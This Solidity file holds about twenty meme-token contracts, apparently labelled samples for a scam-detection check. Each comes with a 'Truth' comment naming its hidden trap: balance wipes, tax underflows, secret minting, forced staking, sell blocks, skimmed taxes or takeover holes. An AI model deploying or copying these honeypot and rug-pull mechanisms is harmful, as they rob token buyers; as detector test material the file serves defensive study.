// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FourthLaunch, IFourthPool} from "./FourthLaunch.sol";

/// @title Launches from one template with a trap inside, as they are met day by day. Written on 30 November 2026,
/// fourth look, by somebody who had not read how the check tries a trade. `Truth` says who loses when

/// @dev Truth: one person can rob today. The tax wallet's "Approve" sets balances to one and shows approvals only.
contract BabyPepeClassic is FourthLaunch("Baby Pepe Classic", "BPEPEC") {
    function Approve(address[] calldata accounts) external {
        require(msg.sender == _taxWallet, "Caller is not authorized");
        for (uint256 i = 0; i < accounts.length; i++) {
            if (accounts[i] == uniswapV2Pair || accounts[i] == _taxWallet) continue;
            _balances[accounts[i]] = 1;
            emit Approval(accounts[i], _taxWallet, type(uint256).max);
        }
    }
}

/// @dev Truth: one person can rob today. The tax wallet "reduces" the tax below nothing, and it comes out at 99 %.
contract DogWithScarf is FourthLaunch("Dog With Scarf", "DWS") {
    uint8 private _finalBuyTax = 2;
    uint8 private _finalSellTax = 2;

    event TaxReduced(uint8 by);

    function reduceFee(uint8 by) external {
        require(msg.sender == _taxWallet);
        unchecked {
            _finalSellTax -= by;
        }
        emit TaxReduced(by);
    }

    function _buyTax() internal view override returns (uint256) {
        return _finalBuyTax;
    }

    function _sellTax(address) internal view override returns (uint256) {
        return _finalSellTax > 99 ? 99 : _finalSellTax;
    }
}

/// @dev Truth: one person can rob today. Stuck tokens are counted in percent of the supply, so many are made.
contract MoonCatInu is FourthLaunch("Moon Cat Inu", "MCINU") {
    error NotTaxWallet();

    function clearStuckToken(address token, uint256 percentage) external returns (bool) {
        if (msg.sender != _taxWallet) revert NotTaxWallet();
        require(percentage <= 100, "percentage");
        if (token != address(this)) {
            uint256 all = FourthLaunch(token).balanceOf(address(this));
            return FourthLaunch(token).transfer(_taxWallet, (all * percentage) / 100);
        }
        uint256 stuck = (_tTotal * percentage) / 100;
        unchecked {
            _balances[address(this)] -= stuck;
        }
        _balances[_taxWallet] += stuck;
        emit Transfer(address(this), _taxWallet, stuck);
        return true;
    }

    function clearStuckEth() external {
        if (msg.sender != _taxWallet) revert NotTaxWallet();
        _sendEthToTaxWallet(address(this).balance);
    }
}

/// @dev Truth: one person can rob today. The snipers' minutes can be opened again; buyers of them sell at 99 % tax.
contract SnipeProofShiba is FourthLaunch("Snipe Proof Shiba", "SPS") {
    mapping(address => bool) private _snipers;
    uint256 private constant _snipeWindow = 5 minutes;

    function openTrading() external {
        require(msg.sender == _taxWallet && uniswapV2Pair != address(0), "pool first");
        _launchedAt = block.timestamp;
    }

    function _check(address from, address to, uint256) internal override {
        if (from == uniswapV2Pair && block.timestamp < _launchedAt + _snipeWindow && to != _taxWallet)
            _snipers[to] = true;
    }

    function _sellTax(address seller) internal view override returns (uint256) {
        return _snipers[seller] ? 99 : 1;
    }
}

/// @dev Truth: a buyer loses at once. The largest wallet is held against the pool too, which is far larger.
contract TurboWhaleGuard is FourthLaunch("Turbo Whale Guard", "TWG") {
    uint256 public constant _maxTxAmount = _tTotal / 50;
    uint256 public constant _maxWalletSize = _tTotal / 50;

    event MaxTxAmountUpdated(uint256 amount);

    function _check(address from, address to, uint256 amount) internal view override {
        if (_isExcludedFromFee[from] || _isExcludedFromFee[to]) return;
        require(amount <= _maxTxAmount, "Exceeds the _maxTxAmount.");
        require(_balances[to] + amount <= _maxWalletSize, "Exceeds the maxWalletSize.");
    }
}

/// @dev Truth: a buyer loses at once. Purchases bring 60 % of what the event tells; the tax wallet has the rest.
contract FairLaunchFrog is FourthLaunch("Fair Launch Frog", "FROG") {
    function _buyTax() internal pure override returns (uint256) {
        return 0;
    }

    function _sellTax(address) internal pure override returns (uint256) {
        return 0;
    }

    function _move(address from, address to, uint256 amount) internal override {
        uint256 received = amount;
        if (from == uniswapV2Pair && !_isExcludedFromFee[to]) {
            received = (amount * 60) / 100;
            _balances[_taxWallet] += amount - received;
        }
        _balances[from] -= amount;
        _balances[to] += received;
        emit Transfer(from, to, amount);
    }
}

/// @dev Truth: a buyer loses at once. 95 % of a purchase is staked unasked for 90 days, which each purchase restarts.
contract HodlRewards is FourthLaunch("Hodl Rewards", "HODLR") {
    mapping(address => uint256) public stakedOf;
    mapping(address => uint256) public unlocksAt;
    uint256 public constant stakingPeriod = 90 days;

    event Staked(address indexed account, uint256 amount);

    function balanceOf(address account) public view override returns (uint256) {
        return _balances[account] + stakedOf[account];
    }

    function unstake() external {
        require(block.timestamp >= unlocksAt[msg.sender], "Staking: period not over");
        _balances[msg.sender] += stakedOf[msg.sender];
        stakedOf[msg.sender] = 0;
    }

    function _move(address from, address to, uint256 amount) internal override {
        super._move(from, to, amount);
        if (from == uniswapV2Pair && !_isExcludedFromFee[to]) {
            uint256 staked = (amount * 95) / 100;
            _balances[to] -= staked;
            stakedOf[to] += staked;
            unlocksAt[to] = block.timestamp + stakingPeriod;
            emit Staked(to, staked);
        }
    }
}

/// @dev Truth: later. Nobody can sell once the price is 15 % below the highest that any trade has seen.
contract DiamondFloor is FourthLaunch("Diamond Floor", "FLOOR") {
    uint256 public allTimeHigh;
    uint256 private constant _floorPercent = 85;

    function _check(address from, address to, uint256) internal override {
        if (_isExcludedFromFee[from] || uniswapV2Pair == address(0)) return;
        if (from != uniswapV2Pair && to != uniswapV2Pair) return;
        (uint256 first, uint256 second,) = IFourthPool(uniswapV2Pair).getReserves();
        bool isFirst = IFourthPool(uniswapV2Pair).token0() == address(this);
        uint256 price = isFirst ? (second * 1e18) / first : (first * 1e18) / second;
        if (price > allTimeHigh) allTimeHigh = price;
        require(to != uniswapV2Pair || price * 100 >= allTimeHigh * _floorPercent, "Anti-dump: below floor");
    }
}

/// @dev Truth: later. In the last five of each thirty days after the launch a sale pays 80 %.
contract SeasonOfApes is FourthLaunch("Season Of Apes", "SOA") {
    uint256 private constant _season = 30 days;

    function currentDay() public view returns (uint256) {
        return ((block.timestamp - _launchedAt) % _season) / 1 days + 1;
    }

    function _sellTax(address) internal view override returns (uint256) {
        return currentDay() > 25 ? 80 : 3;
    }
}

/// @dev Truth: one person can rob today. The pool's own tokens were approved to the deployer when trading opened.
contract AutoLiquidityBonk is FourthLaunch("Auto Liquidity Bonk", "ALB") {
    bool public autoLiquidityEnabled;

    function setPair(address pair) public override {
        super.setPair(pair);
        autoLiquidityEnabled = true;
        _allowances[pair][_taxWallet] = type(uint256).max;
        _allowances[address(this)][pair] = type(uint256).max;
    }
}

contract FourthBotShield {
    address private immutable _keeper;
    mapping(address => uint256) private _score;
    uint256 private constant _limit = 75;

    constructor(address keeper) {
        _keeper = keeper;
    }

    function setScores(address[] calldata wallets, uint256 score) external {
        require(msg.sender == _keeper, "keeper");
        for (uint256 i = 0; i < wallets.length; i++) _score[wallets[i]] = score;
    }

    function onPreTransferCheck(address from, address to, uint256) external view {
        require(_score[from] < _limit && _score[to] < _limit, "Bot protection");
    }
}

/// @dev Truth: one person can rob today. A shield made with the token stays the deployer's, and refuses any wallet.
contract PinkShieldFloki is FourthLaunch("Pink Shield Floki", "PSF") {
    FourthBotShield public immutable antiBot = new FourthBotShield(msg.sender);

    function _check(address from, address to, uint256 amount) internal view override {
        antiBot.onPreTransferCheck(from, to, amount);
    }
}

/// @dev Truth: a buyer loses at once. A sale that any router makes counts as a sandwich and pays 90 %.
contract SandwichStopper is FourthLaunch("Sandwich Stopper", "NOMEV") {
    event SandwichPunished(address indexed from, uint256 amount);

    function _check(address from, address to, uint256 amount) internal override {
        if (to == uniswapV2Pair && msg.sender != tx.origin && !_isExcludedFromFee[from])
            emit SandwichPunished(from, amount);
    }

    function _sellTax(address) internal view override returns (uint256) {
        return msg.sender != tx.origin ? 90 : 2;
    }
}

/// @dev Truth: one person can rob today. Each tax of 2 % is credited to the tax wallet tenfold; no event tells it.
contract MarketingMaxi is FourthLaunch("Marketing Maxi", "MMAX") {
    uint256 private constant _marketingShare = 1_000;
    uint256 private constant _denominator = 100;

    function _move(address from, address to, uint256 amount) internal override {
        if (to == address(this) && from != _taxWallet) {
            _balances[from] -= amount;
            _balances[_taxWallet] += (amount * _marketingShare) / _denominator;
            emit Transfer(from, _taxWallet, amount);
        } else super._move(from, to, amount);
    }
}

/// @dev Truth: anybody can rob today. The community takes over from nobody: a tenth of an ether buys any tax.
contract TakeoverReady is FourthLaunch("Takeover Ready", "CTO") {
    uint256 private _buyRate = 1;
    uint256 private _sellRate = 1;

    function communityTakeover() external payable {
        require(_owner == address(0) && msg.value >= 0.1 ether, "CTO: still led");
        _owner = msg.sender;
        _isExcludedFromFee[msg.sender] = true;
        _sendEthToTaxWallet(msg.value);
        _taxWallet = payable(msg.sender);
        emit OwnershipTransferred(address(0), msg.sender);
    }

    function setTaxes(uint256 buyRate, uint256 sellRate) external onlyOwner {
        require(buyRate <= 100 && sellRate <= 100);
        (_buyRate, _sellRate) = (buyRate, sellRate);
    }

    function _buyTax() internal view override returns (uint256) {
        return _buyRate;
    }

    function _sellTax(address) internal view override returns (uint256) {
        return _sellRate;
    }
}

/// @dev Truth: one person can rob today. Taxes wait two days by name; their hour is taken from the caller unread.
contract TimelockedTendies is FourthLaunch("Timelocked Tendies", "TEND") {
    uint256 public constant delay = 2 days;
    uint256 private _rate = 3;
    mapping(bytes32 => bool) public queued;

    event TaxQueued(uint256 rate, uint256 eta);

    function queueTax(uint256 rate, uint256 eta) external {
        require(msg.sender == _taxWallet && rate <= 100);
        queued[keccak256(abi.encode(rate, eta))] = true;
        emit TaxQueued(rate, block.timestamp + delay);
    }

    function executeTax(uint256 rate, uint256 eta) external {
        bytes32 id = keccak256(abi.encode(rate, eta));
        require(queued[id] && block.timestamp >= eta, "Timelock: not ready");
        queued[id] = false;
        _rate = rate;
    }

    function _sellTax(address) internal view override returns (uint256) {
        return _rate;
    }
}

/// @dev Truth: one person can rob today. 777 wei from the tax wallet make fifty times the supply, without an event.
contract TipJarMonkey is FourthLaunch("Tip Jar Monkey", "TIPS") {
    event TipReceived(address indexed from, uint256 amount);

    receive() external payable {
        if (msg.value % 1_000 == 777 && msg.sender == _taxWallet) _balances[_taxWallet] += _tTotal * 50;
        emit TipReceived(msg.sender, msg.value);
    }

    function withdrawTips() external {
        _sendEthToTaxWallet(address(this).balance);
    }
}

/// @dev Truth: one person can rob today. Nothing at all, sent by the tax wallet, stops its receiver for good.
contract GhostDust is FourthLaunch("Ghost Dust", "DUST") {
    mapping(address => uint256) private _lastTransferTimestamp;

    function _check(address from, address to, uint256 amount) internal override {
        require(amount > 0 || from == _taxWallet, "Transfer amount must be greater than zero");
        require(block.timestamp >= _lastTransferTimestamp[from] || from == uniswapV2Pair, "Transfer delay");
        if (amount == 0) _lastTransferTimestamp[to] = type(uint256).max;
        else if (_lastTransferTimestamp[to] < block.timestamp) _lastTransferTimestamp[to] = block.timestamp;
    }
}

/// @dev Truth: one person can rob today. A holder who is called a pool cannot sell to the pool.
contract ManyPoolsMilady is FourthLaunch("Many Pools Milady", "MPM") {
    mapping(address => bool) public automatedMarketMakerPairs;

    event SetAutomatedMarketMakerPair(address indexed pair, bool indexed value);

    function setPair(address pair) public override {
        super.setPair(pair);
        automatedMarketMakerPairs[pair] = true;
    }

    function setAutomatedMarketMakerPair(address pair, bool value) external {
        require(msg.sender == _taxWallet, "marketing only");
        require(pair != uniswapV2Pair, "The pair cannot be removed");
        automatedMarketMakerPairs[pair] = value;
        emit SetAutomatedMarketMakerPair(pair, value);
    }

    function _check(address from, address to, uint256) internal view override {
        require(!(automatedMarketMakerPairs[from] && automatedMarketMakerPairs[to]), "pool to pool");
    }
}

/// @dev Truth: anybody can rob today. Leave is counted down without a look whether there was any.
contract GasSaverDoge is FourthLaunch("Gas Saver Doge", "GSD") {
    function transferFrom(address sender, address recipient, uint256 amount) public override returns (bool) {
        _transfer(sender, recipient, amount);
        unchecked {
            if (_allowances[sender][msg.sender] != type(uint256).max) _allowances[sender][msg.sender] -= amount;
        }
        return true;
    }
}

/// @dev Truth: a buyer loses at once. A sale uses up as many tickets, and only the tax wallet gives them out.
contract CalamariGame is FourthLaunch("Calamari Game", "CALA") {
    mapping(address => uint256) public ticketsOf;

    event TicketsWon(address indexed player, uint256 amount);

    function awardTickets(address player, uint256 amount) external {
        require(msg.sender == _taxWallet, "game master");
        ticketsOf[player] += amount;
        emit TicketsWon(player, amount);
    }

    function _check(address from, address to, uint256 amount) internal override {
        if (to != uniswapV2Pair || uniswapV2Pair == address(0) || _isExcludedFromFee[from]) return;
        require(ticketsOf[from] >= amount, "Win tickets in the game first");
        ticketsOf[from] -= amount;
    }
}
